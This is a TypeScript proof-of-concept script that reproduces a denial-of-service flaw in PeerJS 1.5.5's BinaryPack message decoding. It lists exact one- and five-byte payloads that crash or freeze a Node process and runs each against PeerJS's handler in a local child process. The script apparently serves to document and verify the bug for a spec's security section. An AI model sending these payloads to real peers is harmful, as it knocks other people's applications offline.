// Trophy T-freeze: PeerJS 1.5.5 decodes every message of a BinaryPack data connection inside the data
// channel's `message` listener, with peerjs-js-binarypack 2.1.0 and no bound, and reads past the end of
// its input as zeros. So a remote peer that can open a data connection can:
//   c1 (or c0)        one byte: the decoded value has no members and PeerJS reads `__peerData` of it;
//                     the TypeError escapes the listener, which ends a Node process;
//   dd ff ff ff ff    five bytes: an array of 2^32 - 1 zeros is built; memory grows until the process
//                     aborts (Node 20: 17 to 50 s), the event loop blocked all along;
//   df ff ff ff ff    five bytes: a map of 2^32 - 1 entries all written to key "0": no memory growth,
//                     the loop just runs (about 9 minutes here), the event loop blocked all along.
// Each case runs in a child process that receives the bytes the way PeerJS does (an EventTarget
// `message` listener calling the BinaryPack connection's own `_handleDataMessage`) and prints a tick
// every 100 ms; the parent watches it. spec/11-data-connections.md, Security Considerations.
//   npx tsx scripts/trophies/peerjs-binarypack-freeze.ts      exit 0 when every case reproduces
import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';

const SELF = fileURLToPath(import.meta.url);
const FROZEN_MS = 3000;

async function child(hex: string): Promise<void> {
  const { loadPeerJs, shutdownWebRtc } = await import('../../reference/transport/peerjs/environment.ts');
  const { Peer } = await loadPeerJs();
  // A Peer that never reaches a broker: only its BinaryPack connection class is used.
  const peer = new Peer('trophy-freeze', { host: '127.0.0.1', port: 9, path: '/', secure: false }) as unknown as {
    _serializers: Record<string, { prototype: { _handleDataMessage(e: { data: ArrayBuffer }): void } }>;
    destroy(): void;
  };
  const handle = peer._serializers.binary!.prototype._handleDataMessage;
  peer.destroy();
  shutdownWebRtc();
  // A connection as PeerJS's own handler sees it; nothing is delivered anywhere.
  const conn = { emit() {}, close() {}, _handleChunk() {}, _chunkedData: {} };
  const channel = new EventTarget();
  channel.addEventListener('message', (e) => handle.call(conn, { data: (e as MessageEvent).data as ArrayBuffer }));
  const tick = setInterval(() => process.stdout.write('tick\n'), 100);
  setTimeout(() => {
    process.stdout.write('sent\n');
    channel.dispatchEvent(new MessageEvent('message', { data: Uint8Array.from(Buffer.from(hex, 'hex')).buffer }));
    // Node reports an exception from an EventTarget listener on the next tick, as uncaught.
    setTimeout(() => {
      process.stdout.write('returned\n');
      clearInterval(tick);
      process.exit(0);
    }, 300);
  }, 300);
}

interface Outcome {
  hex: string;
  verdict: 'crashed' | 'frozen' | 'returned';
  detail: string;
}

function run(hex: string): Promise<Outcome> {
  return new Promise((resolve) => {
    const p = spawn(process.execPath, ['--import', 'tsx', SELF, '--child', hex], { stdio: ['ignore', 'pipe', 'pipe'] });
    let stderr = '';
    let sentAt = 0;
    let lastTick = Date.now();
    let done = false;
    const finish = (o: Outcome) => {
      if (done) return;
      done = true;
      clearInterval(watch);
      p.kill('SIGKILL');
      resolve(o);
    };
    p.stdout.on('data', (b: Buffer) => {
      for (const line of String(b).split('\n')) {
        if (line === 'tick') lastTick = Date.now();
        if (line === 'sent') sentAt = Date.now();
        if (line === 'returned') finish({ hex, verdict: 'returned', detail: 'PeerJS handled the message' });
      }
    });
    p.stderr.on('data', (b: Buffer) => (stderr = (stderr + String(b)).slice(-2000)));
    p.on('close', (code) => finish({ hex, verdict: 'crashed', detail: `exit ${code}: ${stderr.split('\n').find((l) => /Error/.test(l)) ?? stderr.slice(-200)}` }));
    const watch = setInterval(() => {
      if (sentAt && Date.now() - Math.max(lastTick, sentAt) > FROZEN_MS) finish({ hex, verdict: 'frozen', detail: `no tick for ${FROZEN_MS} ms after the message` });
    }, 100);
  });
}

if (process.argv[2] === '--child') {
  await child(process.argv[3]!);
} else {
  const expected: Record<string, Outcome['verdict']> = { c1: 'crashed', c0: 'crashed', ddffffffff: 'frozen', dfffffffff: 'frozen' };
  let all = true;
  for (const [hex, want] of Object.entries(expected)) {
    const o = await run(hex);
    const ok = o.verdict === want;
    all &&= ok;
    console.log(`${ok ? 'reproduced' : 'NOT reproduced'}: ${hex} ${o.verdict} (${o.detail})`);
  }
  process.exit(all ? 0 : 1);
}
